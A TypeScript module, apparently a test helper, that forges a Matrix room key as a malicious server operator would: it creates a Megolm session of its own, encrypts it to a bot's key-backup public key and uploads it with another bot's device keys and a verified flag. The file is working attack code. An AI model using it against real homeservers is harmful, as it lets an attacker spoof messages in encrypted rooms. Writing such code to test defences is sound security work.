/**
 * What whoever runs the server can do with a bot's key backup: its public half is there for
 * everybody, so a room key of one's own can be put into it, as if a bot's device had made it.
 */
import {
  createCipheriv,
  createHmac,
  createPublicKey,
  diffieHellman,
  generateKeyPairSync,
  hkdfSync,
} from "node:crypto";
import {
  DeviceId,
  EncryptionSettings,
  initAsync,
  OlmMachine,
  RoomId as EngineRoomId,
  UserId as EngineUserId,
} from "@matrix-org/matrix-sdk-crypto-wasm";
import { z } from "zod";
import type { RoomId } from "../../shared/core/ids.ts";
import type { JsonObject } from "../../shared/core/json.ts";
import type { VaultBot } from "../../shared/vault/vault.ts";

const KEY_BYTES = 32;
const IV_BYTES = 16;
const MAC_BYTES = 8;

const versionShape = z.object({
  version: z.string(),
  auth_data: z.object({ public_key: z.string() }),
});
const sessionShape = z.looseObject({ session_id: z.string(), session_key: z.string() });
const devicesShape = z.object({
  device_keys: z.record(
    z.string(),
    z.record(z.string(), z.object({ keys: z.record(z.string(), z.string()) })),
  ),
});

/** A session of Mallory's own for a room, and what she encrypts with it. */
export type Forgery = Readonly<{
  encrypt(type: string, content: JsonObject): Promise<JsonObject>;
  /** Puts the session into this bot's backup, as if `of` had made it. */
  plant(homeserverUrl: string, reader: VaultBot, of: VaultBot): Promise<void>;
}>;

export async function forgeIn(roomId: RoomId): Promise<Forgery> {
  await initAsync();
  const [user, device] = [new EngineUserId("@mallory:example.org"), new DeviceId("MALLORY")];
  const machine = await OlmMachine.initialize(user, device);
  const room = () => new EngineRoomId(roomId);
  await machine.shareRoomKey(room(), [], new EncryptionSettings());
  return {
    encrypt: async (type, content) => {
      const text = await machine.encryptRoomEvent(room(), type, JSON.stringify(content));
      return JSON.parse(text) as JsonObject;
    },
    plant: async (homeserverUrl, reader, of) => {
      const exported: unknown = JSON.parse(await machine.exportRoomKeys(() => true));
      const [session] = z.array(sessionShape).parse(exported);
      if (session === undefined) throw new Error("there is no session");
      const ask = askAs(homeserverUrl, reader);
      const { auth_data, version } = versionShape.parse(await ask("GET", "room_keys/version"));
      const { curve25519, ed25519 } = await deviceKeys(ask, of);
      const data = {
        algorithm: "m.megolm.v1.aes-sha2",
        forwarding_curve25519_key_chain: [],
        sender_claimed_keys: { ed25519 },
        sender_key: curve25519,
        session_key: session.session_key,
      };
      const place = `${encodeURIComponent(roomId)}/${encodeURIComponent(session.session_id)}`;
      await ask("PUT", `room_keys/keys/${place}?version=${version}`, {
        ...{ first_message_index: 0, forwarded_count: 0, is_verified: true },
        session_data: sealedFor(auth_data.public_key, JSON.stringify(data)),
      });
    },
  };
}

type Ask = (method: string, path: string, body?: JsonObject) => Promise<unknown>;

function askAs(homeserverUrl: string, { accessToken }: VaultBot): Ask {
  return async (method, path, body) => {
    const answer = await fetch(`${homeserverUrl}/_matrix/client/v3/${path}`, {
      method,
      headers: { authorization: `Bearer ${accessToken}` },
      ...(body !== undefined && { body: JSON.stringify(body) }),
    });
    if (!answer.ok) throw new Error(`${method} ${path.split("?")[0] ?? ""}: ${answer.status}`);
    return await answer.json();
  };
}

async function deviceKeys(ask: Ask, { userId, deviceId }: VaultBot) {
  const device_keys = { [userId]: [] };
  const answer = devicesShape.parse(await ask("POST", "keys/query", { device_keys }));
  const keys = answer.device_keys[userId]?.[deviceId]?.keys ?? {};
  return {
    curve25519: keys[`curve25519:${deviceId}`] ?? "",
    ed25519: keys[`ed25519:${deviceId}`] ?? "",
  };
}

/** `m.megolm_backup.v1.curve25519-aes-sha2`; its MAC is over nothing, as libolm had it. */
function sealedFor(publicKey: string, text: string): JsonObject {
  const x = Buffer.from(publicKey, "base64").toString("base64url");
  const key = createPublicKey({ key: { kty: "OKP", crv: "X25519", x }, format: "jwk" });
  const ephemeral = generateKeyPairSync("x25519");
  const shared = diffieHellman({ privateKey: ephemeral.privateKey, publicKey: key });
  const length = 2 * KEY_BYTES + IV_BYTES;
  const derived = Buffer.from(hkdfSync("sha256", shared, Buffer.alloc(KEY_BYTES), "", length));
  const iv = derived.subarray(2 * KEY_BYTES);
  const cipher = createCipheriv("aes-256-cbc", derived.subarray(0, KEY_BYTES), iv);
  const ciphertext = Buffer.concat([cipher.update(text, "utf8"), cipher.final()]);
  const macKey = derived.subarray(KEY_BYTES, 2 * KEY_BYTES);
  const mac = createHmac("sha256", macKey).update("").digest().subarray(0, MAC_BYTES);
  const own = ephemeral.publicKey.export({ format: "jwk" }).x ?? "";
  const unpadded = (bytes: Buffer): string => bytes.toString("base64").replaceAll("=", "");
  return {
    ephemeral: unpadded(Buffer.from(own, "base64url")),
    ciphertext: unpadded(ciphertext),
    mac: unpadded(mac),
  };
}
